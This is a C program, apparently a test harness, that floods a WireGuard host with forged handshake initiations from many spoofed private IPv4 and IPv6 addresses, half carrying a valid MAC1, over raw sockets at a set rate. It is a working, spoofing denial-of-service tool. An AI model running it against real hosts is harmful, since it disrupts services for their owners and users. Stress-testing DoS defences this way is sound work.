/* SPDX-License-Identifier: MIT */
/*
 * flood: sends handshake initiations from many forged addresses, as a botnet would.
 *
 *     flood V4 V6 PORT PUBLIC_KEY SOURCES RATE SECONDS
 *
 * Sends RATE datagrams per second to PORT of the host with the addresses V4 and V6, from SOURCES forged addresses: in
 * turn IPv4 addresses in 10.0.0.0/16, and IPv6 addresses in fd00::/32, each in its own /64. Half of them have a valid
 * MAC1 for PUBLIC_KEY (in hex), so that the host cannot drop them early. Prints the number of datagrams that were sent.
 * Needs libb2 and CAP_NET_RAW.
 */
#include <arpa/inet.h>
#include <blake2.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

enum {
	MESSAGE = 148, /* an initiation: type, 112 random-looking bytes, MAC1, MAC2 */
	MAC1_AT = 116,
	MAC = 16,
	KEY = 32,
	UDP = 8,
	V4_HEADER = 20,
	V6_HEADER = 40,
	BATCH = 64,
};
#define NS_PER_S UINT64_C(1000000000)
#define PAUSE_NS (NS_PER_S / 2000)

/* Prepared packets of one IP version. */
struct stock {
	int fd;
	struct sockaddr_storage to;
	socklen_t to_length;
	uint8_t *packets;
	uint32_t size, count, next;
};

static void die(const char *what)
{
	perror(what);
	exit(EXIT_FAILURE);
}

static void random_bytes(void *to, size_t n)
{
	if (getrandom(to, n, 0) != (ssize_t)n)
		die("getrandom");
}

static void put16(uint8_t *to, uint32_t value)
{
	to[0] = (uint8_t)(value >> 8);
	to[1] = (uint8_t)value;
}

/* --- packets ----- */

/* The key of MAC1 (WireGuard paper, section 5.4.4). */
static void make_mac1_key(uint8_t key[KEY], const uint8_t public_key[KEY])
{
	uint8_t text[8 + KEY];

	memcpy(text, "mac1----", 8);
	memcpy(text + 8, public_key, KEY);
	blake2s(key, text, NULL, KEY, sizeof text, 0);
}

/* MAC2 is zero, because the senders have no cookie. */
static void make_message(uint8_t message[MESSAGE], const uint8_t mac1_key[KEY], bool valid)
{
	random_bytes(message, MESSAGE);
	memcpy(message, "\1\0\0", 4);
	memset(message + MAC1_AT + MAC, 0, MAC);
	if (valid)
		blake2s(message + MAC1_AT, message, mac1_key, MAC, MAC1_AT, KEY);
}

static uint8_t *make_udp(uint8_t *udp, uint16_t port)
{
	random_bytes(udp, 2);
	udp[0] |= 0x80; /* not a well-known source port */
	put16(udp + 2, port);
	put16(udp + 4, UDP + MESSAGE);
	put16(udp + 6, 0);
	return udp + UDP;
}

/* The kernel fills in the identification and the header checksum (raw(7)). The UDP checksum is optional. */
static void make_v4(uint8_t *packet, const struct sockaddr_in *to, uint32_t number)
{
	uint32_t source = htonl(10u << 24 | (number + 1));

	memset(packet, 0, V4_HEADER);
	packet[0] = 0x45;
	put16(packet + 2, V4_HEADER + UDP + MESSAGE);
	packet[8] = 64;
	packet[9] = IPPROTO_UDP;
	memcpy(packet + 12, &source, 4);
	memcpy(packet + 16, &to->sin_addr, 4);
}

static void make_v6(uint8_t *packet, const struct sockaddr_in6 *to, uint32_t number)
{
	uint32_t network = htonl(number + 1);

	memset(packet, 0, V6_HEADER);
	packet[0] = 0x60;
	put16(packet + 4, UDP + MESSAGE);
	packet[6] = IPPROTO_UDP;
	packet[7] = 64;
	packet[8] = 0xfd;
	memcpy(packet + 12, &network, 4); /* the last bytes of the /64 */
	packet[23] = 1;
	memcpy(packet + 24, &to->sin6_addr, 16);
}

/* Sets the UDP checksum: addresses, length, protocol, header and message (RFC 8200, section 8.1). */
static void sum_v6(uint8_t *packet)
{
	uint32_t sum = UDP + MESSAGE + IPPROTO_UDP;

	for (uint32_t i = 8; i < V6_HEADER + UDP + MESSAGE; i += 2)
		sum += (uint32_t)packet[i] << 8 | packet[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(packet + V6_HEADER + 6, sum == 0xffff ? sum : ~sum);
}

static void fill(struct stock *stock, uint16_t port, const uint8_t mac1_key[KEY])
{
	bool v4 = stock->to.ss_family == AF_INET;
	uint32_t header = v4 ? V4_HEADER : V6_HEADER;

	stock->size = header + UDP + MESSAGE;
	stock->packets = malloc((size_t)stock->count * stock->size);
	if (!stock->packets)
		die("malloc");
	for (uint32_t i = 0; i < stock->count; i++) {
		uint8_t *packet = stock->packets + (size_t)i * stock->size;

		if (v4)
			make_v4(packet, (const struct sockaddr_in *)&stock->to, i);
		else
			make_v6(packet, (const struct sockaddr_in6 *)&stock->to, i);
		make_message(make_udp(packet + header, port), mac1_key, i % 2);
		if (!v4)
			sum_v6(packet);
	}
}

/* --- sending ----- */

static void stock_open(struct stock *stock, const char *address, uint32_t count)
{
	struct sockaddr_in *v4 = (struct sockaddr_in *)&stock->to;
	struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)&stock->to;
	int big = 4 << 20, on = 1;

	*stock = (struct stock) { .count = count };
	if (inet_pton(AF_INET, address, &v4->sin_addr) == 1) {
		stock->to.ss_family = AF_INET;
		stock->to_length = sizeof *v4;
	} else if (inet_pton(AF_INET6, address, &v6->sin6_addr) == 1) {
		stock->to.ss_family = AF_INET6;
		stock->to_length = sizeof *v6;
	} else {
		errno = EINVAL;
		die(address);
	}
	stock->fd = socket(stock->to.ss_family, SOCK_RAW, IPPROTO_RAW);
	if (stock->fd < 0)
		die("socket");
	if (stock->to.ss_family == AF_INET6 && setsockopt(stock->fd, IPPROTO_IPV6, IPV6_HDRINCL, &on, sizeof on))
		die("IPV6_HDRINCL");
	setsockopt(stock->fd, SOL_SOCKET, SO_SNDBUFFORCE, &big, sizeof big);
}

/* Sends the next BATCH packets, and returns how many were sent. */
static uint32_t stock_send(struct stock *stock)
{
	struct mmsghdr headers[BATCH] = { 0 };
	struct iovec parts[BATCH];
	int sent;

	for (uint32_t i = 0; i < BATCH; i++) {
		uint32_t at = (stock->next + i) % stock->count;

		parts[i] = (struct iovec) { stock->packets + (size_t)at * stock->size, stock->size };
		headers[i].msg_hdr = (struct msghdr) {
			.msg_name = &stock->to, .msg_namelen = stock->to_length, .msg_iov = &parts[i], .msg_iovlen = 1
		};
	}
	sent = sendmmsg(stock->fd, headers, BATCH, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
		die("sendmmsg");
	stock->next = (stock->next + BATCH) % stock->count;
	return sent < 0 ? 0 : (uint32_t)sent;
}

static uint64_t now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (uint64_t)time.tv_sec * NS_PER_S + (uint64_t)time.tv_nsec;
}

static uint64_t flood(struct stock stocks[2], uint64_t rate, uint64_t seconds)
{
	uint64_t begin = now(), batches = 0, sent = 0, time;

	while ((time = now() - begin) < seconds * NS_PER_S) {
		uint64_t due = time / 1000 * rate / 1000000;

		for (; batches * BATCH < due; batches++)
			sent += stock_send(&stocks[batches & 1]);
		nanosleep(&(struct timespec) { .tv_nsec = PAUSE_NS }, NULL);
	}
	return sent;
}

int main(int argc, char **argv)
{
	uint8_t public_key[KEY], mac1_key[KEY];
	struct stock stocks[2];
	uint32_t sources;

	if (argc != 8 || strlen(argv[4]) != 2 * KEY) {
		fprintf(stderr, "usage: flood V4 V6 PORT PUBLIC_KEY SOURCES RATE SECONDS\n");
		return 2;
	}
	for (int i = 0; i < KEY; i++)
		if (sscanf(argv[4] + 2 * i, "%2hhx", &public_key[i]) != 1)
			return 2;
	make_mac1_key(mac1_key, public_key);
	sources = (uint32_t)strtoul(argv[5], NULL, 10);
	for (int i = 0; i < 2; i++) {
		stock_open(&stocks[i], argv[1 + i], sources / 2);
		fill(&stocks[i], (uint16_t)strtoul(argv[3], NULL, 10), mac1_key);
	}
	printf("%llu\n", (unsigned long long)flood(stocks, strtoull(argv[6], NULL, 10), strtoull(argv[7], NULL, 10)));
	return EXIT_SUCCESS;
}
